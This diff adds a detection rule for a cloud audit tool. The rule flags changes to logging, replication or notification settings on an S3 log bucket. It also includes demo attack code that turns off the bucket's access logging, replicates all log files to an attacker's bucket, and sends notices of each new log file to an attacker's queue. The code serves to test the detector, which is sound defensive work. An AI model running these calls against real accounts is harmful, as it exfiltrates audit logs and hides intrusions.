@@ -1,0 +1,117 @@
+"""Somebody changes who hears of the files in the log bucket."""
+
+from __future__ import annotations
+
+from trailkeeper.detections import resources
+from trailkeeper.detections.detection import Detection
+from trailkeeper.words.text import Severity
+
+DETECTION = Detection(
+    id="log-bucket-observers-changed",
+    category="log-bucket",
+    severity=Severity.WARNING,
+    event_source="s3.amazonaws.com",
+    events=(
+        "PutBucketLogging",
+        "PutBucketReplication",
+        "DeleteBucketReplication",
+        "PutBucketNotification",
+        "PutBucketNotificationConfiguration",
+    ),
+    resource_fields=("bucketName",),
+    ours=resources.log_bucket,
+    did={
+        "en": "changed who hears of the log bucket {resource}",
+        "ko": "로그 버킷 {resource}의 로깅·복제·알림 설정을 변경했습니다",
+    },
+)
+
+# What follows is for people, tests and the demo: it is not packed for the functions.
+
+from trailkeeper.detections.proof import (
+    Attacker,
+    Example,
+    Limit,
+    Proof,
+    Technique,
+    told,
+)
+from trailkeeper.evidence.drift import ABSENT
+
+_PEOPLE_DECIDE = "Nothing is touched: only people know whether it is wanted"
+
+
+def _replicate(a: Attacker) -> None:
+    rule = {
+        "ID": "copy",
+        "Status": "Enabled",
+        "Priority": 1,
+        "Filter": {"Prefix": ""},
+        "DeleteMarkerReplication": {"Status": "Disabled"},
+        "Destination": {"Bucket": f"arn:aws:s3:::{a.own_bucket()}"},
+    }
+    a.s3.put_bucket_replication(
+        Bucket=a.log_bucket,
+        ReplicationConfiguration={"Role": a.own_role("s3.amazonaws.com"), "Rules": [rule]},
+    )
+
+
+def _notify(a: Attacker) -> None:
+    queue = {"QueueArn": a.own_queue(), "Events": ["s3:ObjectCreated:*"]}
+    a.s3.put_bucket_notification_configuration(
+        Bucket=a.log_bucket, NotificationConfiguration={"QueueConfigurations": [queue]}
+    )
+
+
+PROOF = Proof(
+    example=Example(
+        {"bucketName": "trailkeeper-logs-111122223333-us-east-1"},
+        told(
+            "log-bucket.replication",
+            "Rules[0].Destination.Bucket",
+            "arn:aws:s3:::somebody-elses-bucket",
+            ABSENT,
+        ),
+    ),
+    techniques=(
+        Technique(
+            id="log-bucket-access-logging-off",
+            words="Turn off the access logs of the bucket",
+            events=("PutBucketLogging",),
+            documents=("log-bucket.access-logging",),
+            how="The baseline's access logging is put back",
+            known_as=(),
+            attack=lambda a: a.s3.put_bucket_logging(Bucket=a.log_bucket, BucketLoggingStatus={}),
+        ),
+        Technique(
+            id="log-bucket-replicated",
+            words="Copy the log files to a bucket of the attacker",
+            events=("PutBucketReplication",),
+            documents=("log-bucket.replication",),
+            outcome="told",
+            how=_PEOPLE_DECIDE,
+            known_as=(),
+            attack=_replicate,
+            undo=lambda a: a.s3.delete_bucket_replication(Bucket=a.log_bucket),
+        ),
+        Technique(
+            id="log-bucket-notified",
+            words="Tell a queue or function of the attacker about every log file",
+            events=("PutBucketNotification",),
+            documents=("log-bucket.notification",),
+            outcome="told",
+            how=_PEOPLE_DECIDE,
+            known_as=(),
+            attack=_notify,
+            undo=lambda a: a.s3.put_bucket_notification_configuration(
+                Bucket=a.log_bucket, NotificationConfiguration={}
+            ),
+        ),
+    ),
+    limits=(
+        Limit(
+            "List the names of log files by an inventory",
+            "An inventory carries names and sizes, not contents",
+        ),
+    ),
+)
